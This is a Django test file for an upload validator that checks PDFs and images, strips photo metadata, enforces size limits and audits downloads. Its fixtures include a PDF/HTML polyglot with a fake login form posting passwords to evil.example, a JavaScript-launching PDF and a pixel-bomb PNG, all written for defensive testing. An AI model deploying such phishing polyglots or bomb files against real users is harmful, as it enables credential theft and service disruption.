"""Document uploads (issue 16, point 5): the whole file is checked (a PDF must parse, an image
must decode and is re-encoded without metadata), stored under a name of its verified type, and
served with that type, nosniff and attachment unless it is a verified PDF or image; oversized
bodies are refused before they are read; every exemption-file download is audited."""

import datetime
import io
import json
import re
import struct
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from core import uploads
from core.models import AuditEvent
from core.uploads import blank_pdf, verify_document_upload

from ..conftest import client_for

ROOT = Path(__file__).resolve().parents[2]

# What the probe uploaded: the PDF signature, then a page with a fake login form.
POLYGLOT = (
    b"%PDF-1.4\n<html><body><h1>\xe7\x99\xbb\xe5\xbd\x95</h1>"
    b"<form action='https://evil.example/steal' method='post'><input name='password'>"
    b"</form></body></html>\n%%EOF\n"
)
NOT_A_PDF = "不是可读取的 PDF"


def png_declaring(width: int, height: int) -> bytes:
    """A valid PNG header (IHDR) with the given size and a tiny, truncated IDAT."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def upload(name, content):
    return SimpleUploadedFile(name, content)


def real_png(width=40, height=30, text: dict | None = None) -> bytes:
    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def phone_photo() -> bytes:
    """A JPEG as a phone writes it: EXIF with the maker, a GPS position and a rotation, and a
    comment; 40 wide and 20 high as stored, to be shown rotated (20 × 40)."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    exif.get_ifd(0x8825)[2] = (30.0, 39.0, 1.0)  # GPSLatitude: the child's home
    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), "red").save(
        buffer, "JPEG", exif=exif.tobytes(), comment=b"GuardianPhone 13812345678"
    )
    return buffer.getvalue()


def pdf_with(*, pages=1, javascript=False, password=None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if javascript:  # runs when the document opens
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hello');"),
            }
        )
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- the check ----------------------------------------------------------------------------------


def test_a_pdf_prefixed_html_page_is_refused_with_a_clear_chinese_message():
    with pytest.raises(ValidationError, match=NOT_A_PDF):
        verify_document_upload(upload("证明.pdf", POLYGLOT))


def test_a_real_pdf_is_accepted_as_it_is_and_named_by_its_type():
    content = blank_pdf()
    verified = verify_document_upload(upload("证明.html", content))
    assert verified.type is uploads.PDF
    assert verified.file.name.endswith(".pdf") and "html" not in verified.file.name
    assert verified.file.read() == content


def test_a_photo_is_decoded_and_re_encoded_without_its_metadata():
    original = phone_photo()
    assert b"PhoneMaker" in original and b"13812345678" in original
    verified = verify_document_upload(upload("photo.png", original))  # misnamed
    assert verified.type is uploads.JPEG and verified.file.name.endswith(".jpg")
    kept = verified.file.read()
    assert b"PhoneMaker" not in kept and b"13812345678" not in kept
    image = Image.open(io.BytesIO(kept))
    assert image.format == "JPEG" and not image.getexif() and "comment" not in image.info
    assert image.size == (20, 40)  # the rotation EXIF asked for is applied to the pixels


def test_a_png_loses_its_text_chunks():
    verified = verify_document_upload(upload("scan.png", real_png(text={"Author": "王小一"})))
    kept = verified.file.read()
    assert verified.type is uploads.PNG and verified.file.name.endswith(".png")
    assert Image.open(io.BytesIO(kept)).info == {} and "王小一".encode() not in kept


@pytest.mark.parametrize(
    "content, message",
    [
        (pdf_with(javascript=True), "脚本"),
        (pdf_with(password="secret"), "加密"),
        (blank_pdf()[:200], NOT_A_PDF),  # truncated
    ],
    ids=["javascript", "encrypted", "truncated"],
)
def test_pdfs_reviewers_cannot_safely_open_are_refused(content, message):
    with pytest.raises(ValidationError, match=message):
        verify_document_upload(upload("scan.pdf", content))


def test_a_pdf_of_too_many_pages_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 3)
    assert verify_document_upload(upload("a.pdf", pdf_with(pages=3))).type is uploads.PDF
    with pytest.raises(ValidationError, match="页"):
        verify_document_upload(upload("a.pdf", pdf_with(pages=4)))


@pytest.mark.parametrize("size", [(100_000, 100_000), (8_000, 6_000)])
def test_an_image_declaring_too_many_pixels_is_refused(size):
    bomb = png_declaring(*size)
    assert len(bomb) < 200  # tiny on disk
    with pytest.raises(ValidationError, match="像素"):
        verify_document_upload(upload("photo.png", bomb))


def test_an_image_whose_pixels_do_not_decode_is_refused():
    with pytest.raises(ValidationError, match="无法读取"):
        verify_document_upload(upload("photo.png", png_declaring(40, 30)))  # IDAT too short
    with pytest.raises(ValidationError, match="无法读取"):
        verify_document_upload(upload("photo.jpg", b"\xff\xd8\xff\xe0 broken"))


def test_a_renamed_file_and_an_oversized_file_are_refused(settings):
    with pytest.raises(ValidationError, match="PDF"):
        verify_document_upload(upload("scan.pdf", b"PK\x03\x04 not a pdf"))
    settings.VISIT_ATTACHMENT_MAX_BYTES = 1000
    with pytest.raises(ValidationError, match="MB"):
        verify_document_upload(upload("scan.pdf", blank_pdf() + b"0" * 2000))


# --- exemption files end to end -------------------------------------------------------------------


def _register(client, child, **files):
    today = timezone.localdate()
    return client.post(
        reverse("dropout:exemption_new") + f"?child={child.pk}",
        {
            "kind": "suspended",
            "reason": "illness",
            "reason_detail": "住院治疗",
            "start_date": today.isoformat(),
            "end_date": (today + datetime.timedelta(days=90)).isoformat(),
            **files,
        },
    )


def test_the_exemption_form_refuses_the_polyglot_as_evidence(world, media):
    from dropout.models import ExemptionRequest

    response = _register(
        client_for(world.township1_user),
        world.child1,
        application_scan=upload("申请.pdf", blank_pdf()),
        evidence=upload("病历.pdf", POLYGLOT),
    )
    assert response.status_code == 200  # the form again, with the message on the field
    assert NOT_A_PDF in response.content.decode()
    assert not ExemptionRequest.objects.exists()


def _disposition(response) -> tuple[str, str]:
    value = response["Content-Disposition"]
    kind = value.split(";")[0]
    encoded = re.search(r"filename\*=UTF-8''([^;]+)", value)
    from urllib.parse import unquote

    return kind, unquote(encoded.group(1)) if encoded else ""


def test_a_pdf_and_a_photo_are_stored_by_type_and_served_inline_with_their_type(world, media):
    from dropout.models import ExemptionRequest

    client = client_for(world.township1_user)
    response = _register(
        client,
        world.child1,
        application_scan=upload("申请.png", blank_pdf()),  # a PDF under a wrong name
        evidence=upload("病历.pdf", phone_photo()),  # a photo under a wrong name
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    exemption = ExemptionRequest.objects.get()
    assert exemption.application_scan.name.endswith(".pdf")
    assert exemption.evidence.name.endswith(".jpg")

    scan = client.get(reverse("dropout:exemption_file", args=[exemption.pk, "application"]))
    assert scan["Content-Type"] == "application/pdf"
    assert scan["X-Content-Type-Options"] == "nosniff"
    assert _disposition(scan) == ("inline", f"监护人书面申请-{exemption.pk}.pdf")
    with exemption.application_scan.open("rb") as kept:
        assert b"".join(scan.streaming_content) == kept.read()

    photo = client.get(reverse("dropout:exemption_file", args=[exemption.pk, "evidence"]))
    assert photo["Content-Type"] == "image/jpeg" and photo["X-Content-Type-Options"] == "nosniff"
    kind, filename = _disposition(photo)
    assert kind == "inline" and filename.endswith(".jpg")
    served = b"".join(photo.streaming_content)
    assert b"PhoneMaker" not in served and b"13812345678" not in served
    assert "sandbox" in photo["Content-Security-Policy"]


def test_an_old_stored_file_of_unverified_type_is_a_download_of_octet_stream(world, media):
    from dropout.models import ExemptionRequest
    from dropout.services import exemptions

    exemption = exemptions.register_exemption(
        actor=world.township1_user,
        child=world.child1,
        kind="suspended",
        reason="other",
        reason_detail="家庭变故",
        start_date=timezone.localdate(),
        end_date=timezone.localdate() + datetime.timedelta(days=30),
        application_scan=upload("申请.pdf", blank_pdf()),
    )
    # Kept before uploads were checked whole: the probe's file, under its own name.
    old = default_storage.save("exemptions/2025/01/login.html", ContentFile(POLYGLOT))
    ExemptionRequest.objects.filter(pk=exemption.pk).update(evidence=old)

    response = client_for(world.township1_user).get(
        reverse("dropout:exemption_file", args=[exemption.pk, "evidence"])
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    kind, filename = _disposition(response)
    assert kind == "attachment" and filename.endswith(".bin")
    assert 'filename="' in response["Content-Disposition"]  # the ASCII fallback is there too

    default_storage.delete(old)  # the record outlived its file: not found, not a server error
    missing = client_for(world.township1_user).get(
        reverse("dropout:exemption_file", args=[exemption.pk, "evidence"])
    )
    assert missing.status_code == 404


def test_every_exemption_file_download_is_audited_and_scope_still_holds(world, media):
    from dropout.services import exemptions

    exemption = exemptions.register_exemption(
        actor=world.township1_user,
        child=world.child1,
        kind="suspended",
        reason="illness",
        reason_detail="住院",
        start_date=timezone.localdate(),
        end_date=timezone.localdate() + datetime.timedelta(days=30),
        application_scan=upload("申请.pdf", blank_pdf()),
        evidence=upload("病历.png", real_png()),
    )
    url = reverse("dropout:exemption_file", args=[exemption.pk, "evidence"])
    before = AuditEvent.objects.filter(action=AuditEvent.Action.VIEW).count()
    assert client_for(world.bureau).get(url).status_code == 200
    assert client_for(world.township2_user).get(url).status_code == 404
    rows = AuditEvent.objects.filter(action=AuditEvent.Action.VIEW).order_by("pk")[before:]
    assert [(r.username, r.object_type, r.object_id, r.detail) for r in rows] == [
        ("bureau", "dropout.exemptionrequest", str(exemption.pk), {"file": "evidence"})
    ]


def test_a_visit_photo_is_served_with_its_verified_type(world, media):
    from enrollment.models import HouseholdVisit

    client = client_for(world.township1_user)
    response = client.post(
        reverse("enrollment:record_visit", args=[world.child1.pk]),
        {
            "visit_date": timezone.localdate().isoformat(),
            "children": [world.child1.pk],
            "visitors": "李明",
            "findings": "在家",
            "outcome": "confirmed_in_school",
            "attachment": upload("家访.pdf", phone_photo()),
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    visit = HouseholdVisit.objects.get()
    assert visit.attachment.name.endswith(".jpg")
    served = client.get(reverse("enrollment:visit_attachment", args=[visit.pk]))
    assert served["Content-Type"] == "image/jpeg" and served["X-Content-Type-Options"] == "nosniff"
    assert _disposition(served)[0] == "inline"
    assert b"PhoneMaker" not in b"".join(served.streaming_content)


# --- sizes ----------------------------------------------------------------------------------------


class _Unreadable(io.RawIOBase):
    def read(self, *args):
        raise AssertionError("the body was read")


def test_an_oversized_body_is_refused_before_it_is_read(settings):
    settings.REQUEST_BODY_MAX_BYTES = 1000
    request = RequestFactory().post("/dropout/exemptions/new/", data=b"", content_type="x/y")
    request.META["CONTENT_LENGTH"] = "5000"
    request.META["wsgi.input"] = _Unreadable()
    response = uploads.RequestBodyLimitMiddleware(lambda r: r.POST and None)(request)
    assert response.status_code == 413 and "MB" in response.content.decode()
    api = RequestFactory().post("/api/v1/children/", data=b"", content_type="x/y")
    api.META["CONTENT_LENGTH"] = "5000"
    api.META["wsgi.input"] = _Unreadable()
    answer = uploads.RequestBodyLimitMiddleware(lambda r: r.POST and None)(api)
    assert answer.status_code == 413 and "detail" in json.loads(answer.content)


def test_an_oversized_upload_is_refused_through_the_whole_stack(world, media, settings):
    from dropout.models import ExemptionRequest

    settings.REQUEST_BODY_MAX_BYTES = 20_000
    response = _register(
        client_for(world.township1_user),
        world.child1,
        application_scan=upload("申请.pdf", blank_pdf() + b"\0" * 30_000),
    )
    assert response.status_code == 413
    assert not ExemptionRequest.objects.exists()


def test_an_upload_over_the_fields_limit_is_refused_on_the_form(world, media, settings):
    settings.VISIT_ATTACHMENT_MAX_BYTES = 1000
    response = _register(
        client_for(world.township1_user),
        world.child1,
        application_scan=upload("申请.pdf", blank_pdf() + b"\0" * 2000),
    )
    assert response.status_code == 200 and "最大允许" in response.content.decode()


def _nginx_bytes(directive: str) -> int:
    conf = (ROOT / "deploy" / "nginx.conf").read_text()
    (value,) = re.findall(rf"^\s*{directive}\s+(\d+)([km]?);", conf, re.MULTILINE)
    return int(value[0]) * {"": 1, "k": 1024, "m": 1024 * 1024}[value[1].lower()]


def test_nginx_and_django_agree_on_the_upload_limits(settings):
    from core import imports

    body = settings.REQUEST_BODY_MAX_BYTES
    assert _nginx_bytes("client_max_body_size") == body
    largest_field = max(imports.MAX_UPLOAD_BYTES, settings.VISIT_ATTACHMENT_MAX_BYTES)
    assert largest_field < body <= largest_field * 1.25  # room for the form, no more
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= body
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= body
    # The body limit is enforced before CSRF (the first reader of request.POST).
    middleware = settings.MIDDLEWARE
    assert middleware.index("core.uploads.RequestBodyLimitMiddleware") < middleware.index(
        "django.middleware.csrf.CsrfViewMiddleware"
    )
